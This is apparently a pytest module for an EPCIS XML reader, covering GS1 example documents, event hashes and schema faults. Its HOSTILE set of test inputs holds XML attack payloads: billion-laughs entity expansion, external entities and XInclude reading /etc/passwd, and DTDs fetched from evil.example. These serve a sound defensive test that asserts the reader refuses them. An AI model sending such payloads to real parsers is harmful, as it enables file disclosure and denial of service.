"""EPCIS XML, 2.0 and 1.2: the standard's own schema and examples as the oracle, hostile documents, twins in JSON."""

from __future__ import annotations

import copy
import functools
import json
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from lxml import etree

from tests.epcis.events import CONTEXT, EVENTS
from tests.epcis.test_json_documents import document
from tests.shared import shared
from tiantou.epcis.documents import Document, Unreadable, read, read_event, write
from tiantou.epcis.merging import prefixes_of
from tiantou.trace.hashing import event_hash

AT = datetime(2026, 4, 1, 8, tzinfo=UTC)


def take(body: bytes) -> Document:
    return read(body, media_type="application/xml")


def hashes(found: Document) -> list[str]:
    return [event_hash(event, prefixes_of(event)) for event in found.events]


@functools.cache
def xsd(name: str = "query") -> etree.XMLSchema:
    return etree.XMLSchema(file=str(shared("conformance/epcis/xsd") / f"EPCglobal-epcis-{name}-2_0.xsd"))


def verdict(body: bytes) -> list[str]:
    try:
        return [f"{fault.where} {fault.reason}" for fault in take(body).faults]
    except Unreadable as refused:
        return [f"{fault.where} {fault.reason}" for fault in refused.faults]


def examples() -> Iterator[Path]:
    for path in sorted(shared("conformance/epcis/xml").rglob("*.xml")):
        if "CaptureJob" not in path.parts:
            yield path


def test_every_example_of_gs1_is_read():
    paths = list(examples())
    assert len(paths) == 33
    assert {path.stem: found for path in paths if (found := verdict(path.read_bytes()))} == {}


def test_events_that_gs1_calls_identical_have_one_hash():
    folder = shared("conformance/epcis/xml/WithEventHashID")
    found = {}
    for path in sorted(folder.iterdir()):
        media_type = "application/json" if path.suffix == ".json" else "text/xml"
        (found[path.stem[-1]],) = hashes(read(path.read_bytes(), media_type=media_type))
    # The second is told in another zone: eventTimeZoneOffset is part of the hash (CBV 2.0, 8.9.2), so it is another event.
    assert found.pop("2") not in found.values()
    assert len(found) == 6
    assert len(set(found.values())) == 1


def test_the_authors_xml_hashes_as_they_say():
    unequal = {}
    for path in sorted(shared("conformance/event-hash").glob("*.xml")):
        expected = path.with_suffix(".hashes").read_text().split()
        found = hashes(take(path.read_bytes()))
        assert len(found) == len(expected), path.stem
        missed = [place for place, name in enumerate(found) if name not in expected]
        if missed:
            unequal[path.stem] = missed
    # One document of twelve events, all with sensors. Four cannot be equal: a text of digits that the authors' tool rounds as a number, a
    # list in another order than the standard's, an element that stands twice, and cbvmda, which XML and JSON-LD spell differently.
    # Own fields inside sensors and places are the hash's part.
    assert set(unequal) <= {"SensorDataExamples"}
    assert len(unequal.get("SensorDataExamples", ())) <= 5


def test_twins_in_json_and_xml_have_the_same_hashes():
    pairs = 0
    for path in sorted(shared("conformance/event-hash").glob("*.jsonld")):
        twin = path.with_suffix(".xml")
        if twin.exists():
            pairs += 1
            assert hashes(read(path.read_bytes(), media_type="application/json")) == hashes(take(twin.read_bytes())), (
                path.stem
            )
    assert pairs == 6


NAMESPACES = 'xmlns:epcis="urn:epcglobal:epcis:xsd:2" schemaVersion="2.0" creationDate="2026-04-01T08:00:00Z"'
EVENT = (
    "<ObjectEvent><eventTime>2026-04-01T08:00:00Z</eventTime><eventTimeZoneOffset>+08:00</eventTimeZoneOffset><epcList><epc>urn:a:1</epc>"
    "</epcList><action>ADD</action>{more}</ObjectEvent>"
)


def xml(more: str = "", *, head: str = "", body: str = EVENT, names: str = NAMESPACES) -> bytes:
    listed = body.replace("{more}", more)
    return f"{head}<epcis:EPCISDocument {names}><EPCISBody><EventList>{listed}</EventList></EPCISBody></epcis:EPCISDocument>".encode()


BILLION = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
HOSTILE = {
    "billion laughs": xml("<bizStep>&b;</bizStep>", head=BILLION),
    "external entity": xml("<bizStep>&a;</bizStep>", head='<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'),
    "external document type": xml(head='<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">'),
    "public document type": xml(head='<!DOCTYPE x PUBLIC "-//x" "http://evil.example/x.dtd">'),
    "parameter entity": xml(head='<!DOCTYPE x [<!ENTITY % a SYSTEM "http://evil.example/x"> %a;]>'),
    "two document types": xml(head="<!DOCTYPE x><!DOCTYPE y>"),
    "document type behind a comment": xml(head=f"<!-- <!DOCTYPE x> -->{BILLION}"),
    "unknown entity": xml("<bizStep>&nothing;</bizStep>"),
    "deep": xml("<a>" * 5000 + "</a>" * 5000),
    "rather deep": xml('<f:a xmlns:f="urn:f:">' + "<a>" * 150 + "</a>" * 150 + "</f:a>"),
    "huge attribute": xml('<f:a xmlns:f="urn:f:" a="' + "x" * 11_000_000 + '"/>'),
    "many attributes": xml('<f:a xmlns:f="urn:f:" ' + " ".join(f'a{n}=""' for n in range(500)) + "/>"),
    "utf-16": xml().decode().encode("utf-16"),
    "utf-16 said": xml(head='<?xml version="1.0" encoding="UTF-16"?>'),
    "utf-7": xml(head='<?xml version="1.0" encoding="UTF-7"?>'),
    "broken utf-8": xml().replace(b"ADD", b"A\xff"),
    "control character": xml().replace(b"ADD", b"A\x00"),
    "control character by number": xml("<bizStep>&#0;</bizStep>"),
    "nothing": b"",
    "json": b"{}",
    "xinclude": xml('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>')
    + b"<",
    "another document": b"<html/>",
    "no version": xml(names=NAMESPACES.replace('schemaVersion="2.0"', "")),
    "version of another namespace": xml(names=NAMESPACES.replace("2.0", "1.2")),
    "no date": xml(names=NAMESPACES.replace("creationDate", "x")),
    "no body": f"<epcis:EPCISDocument {NAMESPACES}/>".encode(),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_xml_is_refused(name):
    with pytest.raises(Unreadable):
        take(HOSTILE[name])


def test_a_bare_document_type_declares_nothing_and_is_read():
    assert verdict(xml(head='<?xml version="1.0"?>\n<!DOCTYPE project>\n')) == []


def test_an_include_is_somebodys_own_element_and_nothing_is_fetched():
    body = xml('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>')
    assert take(body).events[0]["xi:include"] == {"href": "file:///etc/passwd", "parse": "text"}


@settings(max_examples=100, deadline=None)
@given(st.binary(max_size=100) | st.text("<>/&;!a=\"' ?[]-x", max_size=60).map(str.encode))
def test_any_bytes_are_read_or_refused(body):
    for whole in (body, xml().replace(b"ADD", body), xml("{}").replace(b"{}", body)):
        for reading in (read, read_event):
            try:
                reading(whole, media_type="text/xml")
            except Unreadable as refused:
                assert refused.faults  # noqa: PT017 - what is refused differs from body to body


WRONG = {
    "unknown element": ("<grower>x</grower>", "/grower"),
    "wrong order": ("<quantityList/><bizStep>urn:epcglobal:cbv:bizstep:packing</bizStep>", "/bizStep"),
    "twice": ("<bizStep>urn:a:b</bizStep><bizStep>urn:a:b</bizStep>", "/bizStep"),
    "own element before the standard's": ('<f:a xmlns:f="urn:f:"/><bizStep>urn:a:b</bizStep>', "/bizStep"),
    "elements in a text": ("<bizStep><a/></bizStep>", "/bizStep"),
    "foreign in a list": ("<quantityList><epc>urn:a:1</epc></quantityList>", "/quantityList"),
    "quantity in disorder": ("<quantityList><quantityElement><quantity>1</quantity><epcClass>urn:a:b</epcClass></quantityElement></quantityList>", "/quantityList/0/epcClass"),
    "quantity in words": ("<quantityList><quantityElement><epcClass>urn:a:b</epcClass><quantity>ten</quantity></quantityElement></quantityList>", "/quantityList/0/quantity"),
    "infinite": ('<sensorElementList><sensorElement><sensorReport type="gs1:Mass" value="INF"/></sensorElement></sensorElementList>', "/sensorElementList/0/sensorReport/0/value"),
    "set before unset": ("<persistentDisposition><set>urn:a:b</set><unset>urn:a:c</unset></persistentDisposition>", "/persistentDisposition/unset"),
    "text among elements": ("<quantityList>x</quantityList>", "/quantityList"),
    "text among one's own elements": ('<f:a xmlns:f="urn:f:">x<b/></f:a>', "/f:a"),
    "ilmd without namespace": ("<ilmd><a>1</a></ilmd>", "/ilmd"),
}  # fmt: skip


@pytest.mark.parametrize("name", WRONG)
def test_what_the_schema_forbids_is_told_with_its_place(name):
    more, where = WRONG[name]
    found = take(xml(more))
    assert [fault.where for fault in found.faults][:1] == [f"/epcisBody/eventList/0{where}"], found.faults
    assert found.faults[0].index == 0
    assert not xsd().validate(etree.fromstring(xml(more))) or name in {"infinite", "text among one's own elements"}


def test_values_keep_their_types_and_lose_nothing_of_their_spelling():
    more = (
        '<f:a xmlns:f="urn:f:" xmlns:xsd="http://www.w3.org/2001/XMLSchema" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">'
        '<n xsi:type="xsd:integer">12</n><n xsi:type="xsd:double">0.5</n><n xsi:type="xsd:double">23.0</n><b xsi:type="xsd:boolean">true</b>'
        '<t>007</t><nil xsi:nil="true"/><unit code="KGM">3.5</unit><e/></f:a>'
    )
    (event,) = take(xml(more)).events
    assert event["f:a"] == {
        "n": [12, 0.5, "23.0"],
        "b": True,
        "t": "007",
        "nil": None,
        "unit": {"code": "KGM", "@value": "3.5"},
        "e": "",
    }
    assert event["@context"] == [{"f": "urn:f:"}]


def test_one_prefix_for_two_namespaces_becomes_two():
    (event,) = take(
        xml('<f:a xmlns:f="urn:f:1:">1</f:a><f:a xmlns:f="urn:f:2:">2</f:a><a xmlns="urn:f:3:">3</a>')
    ).events
    explained = prefixes_of(event)
    assert {explained[name.partition(":")[0]]: event[name] for name in event if ":" in name} == {
        "urn:f:1:": "1",
        "urn:f:2:": "2",
        "urn:f:3:": "3",
    }


def test_cbv_words_become_short_however_they_are_spelled():
    for step in (
        "urn:epcglobal:cbv:bizstep:packing",
        "https://ref.gs1.org/cbv/BizStep-packing",
        "cbv:BizStep-packing",
        "packing",
    ):
        assert take(xml(f"<bizStep>{step}</bizStep>")).events[0]["bizStep"] == "packing"
    for kind in ("gs1:Mass", "https://gs1.org/voc/Mass", "https://ref.gs1.org/voc/Mass"):
        more = f'<sensorElementList><sensorElement><sensorReport type="{kind}" value="1"/></sensorElement></sensorElementList>'
        assert take(xml(more)).events[0]["sensorElementList"][0]["sensorReport"] == [{"type": "Mass", "value": 1}]


OLD = b"""<?xml version="1.0"?>
<epcis:EPCISDocument xmlns:epcis="urn:epcglobal:epcis:xsd:1" schemaVersion="1.2" creationDate="2026-04-01T08:00:00Z">
  <EPCISHeader>
    <h:StandardBusinessDocumentHeader xmlns:h="http://www.unece.org/cefact/namespaces/StandardBusinessDocumentHeader"/>
    <extension><EPCISMasterData><VocabularyList><Vocabulary type="urn:epcglobal:epcis:vtype:BusinessLocation"><VocabularyElementList>
      <VocabularyElement id="urn:epc:id:sgln:9521234.00001.0"><attribute id="urn:epcglobal:cbv:mda#name">Demo</attribute>
        <attribute id="urn:farm:where"><f:at xmlns:f="urn:f:"><x>1</x></f:at></attribute>
        <children><id>urn:epc:id:sgln:9521234.00001.1</id></children></VocabularyElement>
    </VocabularyElementList></Vocabulary></VocabularyList></EPCISMasterData></extension>
  </EPCISHeader>
  <EPCISBody><EventList>
    <ObjectEvent>
      <eventTime>2026-04-01T08:00:00Z</eventTime><eventTimeZoneOffset>+08:00</eventTimeZoneOffset>
      <baseExtension><eventID>urn:uuid:1</eventID><errorDeclaration><declarationTime>2026-04-02T08:00:00Z</declarationTime>
        <reason>urn:epcglobal:cbv:er:did_not_occur</reason></errorDeclaration></baseExtension>
      <epcList/><action>ADD</action><bizStep>urn:epcglobal:cbv:bizstep:commissioning</bizStep>
      <extension><quantityList><quantityElement><epcClass>urn:epc:class:lgtin:9521234.000001.A</epcClass><quantity>5</quantity></quantityElement>
        </quantityList><ilmd><m:lotNumber xmlns:m="urn:epcglobal:cbv:mda">A</m:lotNumber></ilmd></extension>
    </ObjectEvent>
    <QuantityEvent>
      <eventTime>2026-04-01T08:00:00Z</eventTime><eventTimeZoneOffset>+08:00</eventTimeZoneOffset>
      <epcClass>urn:epc:idpat:sgtin:9521234.000001.*</epcClass><quantity>7</quantity>
    </QuantityEvent>
    <extension><TransformationEvent>
      <eventTime>2026-04-01T08:00:00Z</eventTime><eventTimeZoneOffset>+08:00</eventTimeZoneOffset>
      <inputEPCList><epc>urn:epc:id:sgtin:9521234.000001.1</epc></inputEPCList><outputEPCList><epc>urn:epc:id:sgtin:9521234.000002.1</epc></outputEPCList>
    </TransformationEvent></extension>
  </EventList></EPCISBody>
</epcis:EPCISDocument>"""


def test_epcis_1_2_becomes_2_0():
    found = take(OLD)
    assert found.faults == []
    time = {"eventTime": "2026-04-01T08:00:00Z", "eventTimeZoneOffset": "+08:00"}
    assert found.events == [
        {
            "type": "ObjectEvent",
            **time,
            "eventID": "urn:uuid:1",
            "errorDeclaration": {"declarationTime": "2026-04-02T08:00:00Z", "reason": "did_not_occur"},
            "epcList": [],
            "action": "ADD",
            "bizStep": "commissioning",
            "quantityList": [{"epcClass": "urn:epc:class:lgtin:9521234.000001.A", "quantity": 5}],
            "ilmd": {"m:lotNumber": "A"},
            "@context": [{"m": "urn:epcglobal:cbv:mda:"}],
        },
        {
            "type": "ObjectEvent",
            **time,
            "action": "OBSERVE",
            "quantityList": [{"epcClass": "urn:epc:idpat:sgtin:9521234.000001.*", "quantity": 7}],
        },
        {
            "type": "TransformationEvent",
            **time,
            "inputEPCList": ["urn:epc:id:sgtin:9521234.000001.1"],
            "outputEPCList": ["urn:epc:id:sgtin:9521234.000002.1"],
        },
    ]
    (master,) = found.masters
    assert master.id == "urn:epc:id:sgln:9521234.00001.0"
    assert master.attributes == {"urn:epcglobal:cbv:mda#name": "Demo", "urn:farm:where": {"f:at": {"x": "1"}}}
    assert master.children == ["urn:epc:id:sgln:9521234.00001.1"]


def test_a_bare_event_is_read():
    body = EVENT.replace("{more}", "<bizStep>urn:epcglobal:cbv:bizstep:packing</bizStep>").encode()
    assert read_event(body, media_type="application/xml")["bizStep"] == "packing"
    with pytest.raises(Unreadable):
        read_event(body.replace(b"ADD", b"ATE"), media_type="application/xml")


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
@given(st.lists(EVENTS, min_size=1, max_size=2), st.sampled_from(["", "Always_URN", "Always_Web_URI"]), st.booleans())
def test_what_is_written_is_valid_and_comes_back_the_same(events, cbv_format, queried):
    sent = read(json.dumps(document(*events, context=CONTEXT)).encode(), media_type="application/json")
    assert sent.faults == []
    before = copy.deepcopy(sent.events)
    query = ("urn:uuid:7", "mine") if queried else None
    body = write(
        sent.events,
        media_type="application/xml",
        at=AT,
        epc_format="Never_Translates",
        cbv_format=cbv_format,
        query=query,
    )
    assert sent.events == before
    assert xsd().validate(etree.fromstring(body)), (xsd().error_log[0].message, body.decode())
    back = take(body)
    assert back.faults == []
    assert back.kind == ("EPCISQueryDocument" if queried else "EPCISDocument")
    assert [strict(event) for event in back.events] == [strict(event) for event in sent.events]
    again = write(
        back.events,
        media_type="application/xml",
        at=AT,
        epc_format="Never_Translates",
        cbv_format=cbv_format,
        query=query,
    )
    assert [strict(event) for event in take(again).events] == [strict(event) for event in sent.events]


def strict(event: dict[str, Any]) -> str:
    """An event as text in which 1 and true, and the order of what has none, are told apart and put aside."""
    return (
        json.dumps(event, sort_keys=True, ensure_ascii=False, default=str)
        .replace(".0,", ",")
        .replace(".0}", "}")
        .replace(".0]", "]")
    )


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.data())
def test_whatever_the_standards_schema_refuses_of_a_mutated_example_is_refused(data):
    path = data.draw(st.sampled_from(_sound()))
    root = etree.fromstring(path.read_bytes(), etree.XMLParser(remove_comments=True, remove_blank_text=True))
    events = next(root.iter("EventList"))
    inner = [element for element in events.iter() if element is not events]
    element = data.draw(st.sampled_from(inner))
    how = data.draw(st.sampled_from(["drop", "twice", "swap", "unknown", "text", "attribute"]))
    parent = element.getparent()
    if how == "drop":
        parent.remove(element)
    elif how == "twice":
        parent.append(copy.deepcopy(element))
    elif how == "swap":
        parent.insert(0, parent[-1])
    elif how == "unknown":
        etree.SubElement(parent, "unheardOf").text = "1"
    elif how == "text":
        element.text = "no such thing"
    elif element.attrib:
        element.set(data.draw(st.sampled_from(sorted(map(str, element.attrib)))), "no such thing")
    body = etree.tostring(root)
    if xsd().validate(root) or verdict(body):
        return
    message = xsd().error_log[0].message
    # A list without elements says nothing, in JSON as in XML: it is taken. A missing EventList likewise. What an extension's own schema
    # says of its elements is known to GS1's validator only.
    assert "Missing child element" in message or "{http://example.com" in message, (path.stem, how, message)


def _sound() -> list[Path]:
    if not _KEPT:
        _KEPT.extend(
            path
            for path in examples()
            if "MasterData" not in path.read_text()
            and xsd().validate(etree.parse(path))
            and not verdict(path.read_bytes())
        )
    return _KEPT


_KEPT: list[Path] = []
